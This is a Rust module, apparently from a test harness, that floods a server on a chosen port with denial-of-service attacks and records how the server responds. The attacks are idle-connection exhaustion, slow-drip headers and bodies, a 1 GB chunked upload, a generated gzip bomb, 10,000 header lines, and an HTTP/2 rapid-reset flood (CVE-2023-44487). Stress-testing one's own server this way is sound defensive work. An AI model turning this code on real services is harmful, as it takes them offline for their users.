//! The attacks. Each connection goes on until the server ends it; the attackers come back, at a bounded pace, until all is over.

use crate::{
    good::webhook,
    tally::Tally,
    wire::{self, HEADERS, RST_STREAM, SETTINGS},
};
use std::{
    collections::BTreeMap,
    io,
    sync::{
        Arc, LazyLock,
        atomic::{AtomicBool, AtomicUsize, Ordering},
    },
    time::Duration,
};
use tokio::{
    io::AsyncWriteExt,
    net::tcp::OwnedWriteHalf,
    sync::watch,
    task::JoinSet,
    time::{Instant, MissedTickBehavior, interval, interval_at},
};

/// Idle connections.
pub(crate) const IDLE: usize = 2_000;
/// Of the other slow ones.
const SLOW: usize = 50;
/// Between two bytes of who is slow.
const DRIP: Duration = Duration::from_millis(100);
/// An attacker makes at most one connection in this time.
const PACE: Duration = Duration::from_secs(1);
/// Between two of the first idle connections: a burst would only fill the kernel's queue of those not yet accepted.
const STAGGER: Duration = Duration::from_millis(2);
const GIGABYTE: u64 = 1 << 30;
/// Streams that are opened and reset on one connection.
const RESETS: u32 = 10_000;

static BOMB: LazyLock<Vec<u8>> = LazyLock::new(gzip_bomb);

#[derive(Clone, Copy, Debug)]
enum Attack {
    Idle,
    SlowHead,
    SlowBody,
    Chunked,
    GzipBomb,
    HeaderLines,
    RapidReset,
    HalfClosed,
}

/// All attackers at work.
#[derive(Debug)]
pub(crate) struct Attackers {
    tasks: JoinSet<(Attack, Tally)>,
    shared: Arc<Shared>,
    dismiss: watch::Sender<bool>,
}

#[derive(Debug, Default)]
struct Shared {
    port: u16,
    over: AtomicBool,
    idle: AtomicUsize,
}

// === impl Attackers ===

impl Attackers {
    pub(crate) fn start(port: u16) -> Self {
        let (dismiss, dismissed) = watch::channel(false);
        let shared = Arc::new(Shared {
            port,
            ..Shared::default()
        });
        let start = Instant::now();
        let mut tasks = JoinSet::new();
        for (attack, count) in [
            (Attack::Idle, IDLE),
            (Attack::SlowHead, SLOW),
            (Attack::SlowBody, SLOW),
            (Attack::HalfClosed, SLOW),
            (Attack::Chunked, 1),
            (Attack::GzipBomb, 2),
            (Attack::HeaderLines, 2),
            (Attack::RapidReset, 2),
        ] {
            for number in 0..count {
                let (shared, dismissed) = (Arc::clone(&shared), dismissed.clone());
                let first = start + STAGGER * number as u32;
                let repeat = async move { attack.repeat(&shared, first, dismissed).await };
                tasks.spawn(async move { (attack, repeat.await) });
            }
        }
        Self {
            tasks,
            shared,
            dismiss,
        }
    }

    /// How many idle connections have been made so far.
    pub(crate) fn idle_opened(&self) -> usize {
        self.shared.idle.load(Ordering::SeqCst)
    }

    /// From now on they make no new connections. Those that they have, they keep.
    pub(crate) fn stop(&self) {
        self.shared.over.store(true, Ordering::SeqCst);
    }

    /// All go home.
    pub(crate) async fn end(mut self) -> BTreeMap<&'static str, Tally> {
        self.stop();
        self.dismiss.send_replace(true);
        let mut tallies = BTreeMap::<_, Tally>::new();
        while let Some(ended) = self.tasks.join_next().await {
            let (attack, tally) = ended.expect("an attacker does not panic");
            tallies.entry(attack.name()).or_default().add(tally);
        }
        tallies
    }
}

// === impl Attack ===

impl Attack {
    fn name(self) -> &'static str {
        match self {
            Self::Idle => "idle",
            Self::SlowHead => "slow head",
            Self::SlowBody => "slow body",
            Self::Chunked => "1 GB chunked",
            Self::GzipBomb => "gzip bomb",
            Self::HeaderLines => "10,000 header lines",
            Self::RapidReset => "rapid reset",
            Self::HalfClosed => "half-closed",
        }
    }

    async fn repeat(
        self,
        shared: &Shared,
        first: Instant,
        mut dismissed: watch::Receiver<bool>,
    ) -> Tally {
        let mut tally = Tally::default();
        let mut pace = interval_at(first, PACE);
        pace.set_missed_tick_behavior(MissedTickBehavior::Delay);
        loop {
            pace.tick().await;
            if shared.over.load(Ordering::SeqCst) {
                return tally;
            }
            let Ok((mut reader, mut writer)) = wire::connect(shared.port).await else {
                tally.refused += 1;
                continue;
            };
            tally.made += 1;
            if matches!(self, Self::Idle) {
                shared.idle.fetch_add(1, Ordering::SeqCst);
            }
            let mut taken = 0;
            let send = async {
                // That it can not send any more is what is to be expected.
                drop(self.send(&mut writer, &mut taken).await);
                std::future::pending::<()>().await;
            };
            tokio::select! {
                said = wire::rest(&mut reader) => tally.ended(self.answers(&said)),
                () = send => {}
                _ = dismissed.wait_for(|dismissed| *dismissed) => tally.left += 1,
            }
            tally.most_taken = tally.most_taken.max(taken);
        }
    }

    fn answers(self, said: &[u8]) -> Vec<String> {
        match self {
            Self::RapidReset => wire::goaways(said),
            Self::Idle
            | Self::SlowHead
            | Self::SlowBody
            | Self::Chunked
            | Self::GzipBomb
            | Self::HeaderLines
            | Self::HalfClosed => wire::statuses(said),
        }
    }

    /// One connection's attack; counts the bytes of what is large.
    async fn send(self, writer: &mut OwnedWriteHalf, taken: &mut u64) -> io::Result<()> {
        let some = webhook(99_999);
        match self {
            Self::Idle => Ok(()),
            Self::SlowHead => drip(writer, wire::head(&some, "").as_bytes()).await,
            Self::SlowBody => {
                let head = wire::head(&some, "content-length: 1000\r\n");
                writer.write_all(head.as_bytes()).await?;
                drip(writer, &some.body).await
            }
            Self::Chunked => {
                let head = wire::head(&some, "transfer-encoding: chunked\r\n");
                writer.write_all(head.as_bytes()).await?;
                let chunk = format!("10000\r\n{}\r\n", "x".repeat(1 << 16));
                while *taken < GIGABYTE {
                    writer.write_all(chunk.as_bytes()).await?;
                    *taken += 1 << 16;
                }
                Ok(())
            }
            Self::GzipBomb => {
                let length = BOMB.len();
                let lines = format!("content-encoding: gzip\r\ncontent-length: {length}\r\n");
                let text = wire::head(&some, &lines);
                writer.write_all(&[text.as_bytes(), &BOMB].concat()).await
            }
            Self::HeaderLines => {
                let lines: String = (0..10_000).map(|n| format!("x-{n}: y\r\n")).collect();
                writer.write_all(wire::head(&some, &lines).as_bytes()).await
            }
            Self::RapidReset => rapid_reset(writer).await,
            Self::HalfClosed => {
                writer.write_all(&wire::whole(&some)).await?;
                writer.shutdown().await
            }
        }
    }
}

/// A byte now and then.
async fn drip(writer: &mut OwnedWriteHalf, bytes: &[u8]) -> io::Result<()> {
    let mut drops = interval(DRIP);
    for byte in bytes {
        drops.tick().await;
        writer.write_all(&[*byte]).await?;
    }
    Ok(())
}

/// CVE-2023-44487.
async fn rapid_reset(writer: &mut OwnedWriteHalf) -> io::Result<()> {
    writer
        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        .await?;
    writer.write_all(&wire::frame(SETTINGS, 0, 0, &[])).await?;
    for number in 0..RESETS {
        let stream = number * 2 + 1;
        // `POST http /` out of HPACK's static table, END_HEADERS; CANCEL.
        let open = wire::frame(HEADERS, 4, stream, &[0x83, 0x86, 0x84]);
        let reset = wire::frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
        writer.write_all(&[open, reset].concat()).await?;
    }
    Ok(())
}

/// 100 MB of zeros in 0.6 MB (RFC 1951, 1952). Its checksum is wrong: that would be seen only at the end.
fn gzip_bomb() -> Vec<u8> {
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    // Last block, fixed codes; a literal zero; then 258 bytes at distance 1 again and again; the end. Codes run from their
    // most significant bit, bytes are filled from the least.
    let mut bits = "11000110000".to_owned();
    bits.push_str(&"1100010100000".repeat(387_600));
    bits.push_str("0000000");
    for byte in bits.as_bytes().chunks(8) {
        let bit = |(at, bit): (usize, &u8)| (bit - b'0') << at;
        bytes.push(byte.iter().enumerate().map(bit).sum());
    }
    bytes.extend([0; 4]);
    bytes.extend(100_000_801_u32.to_le_bytes());
    bytes
}
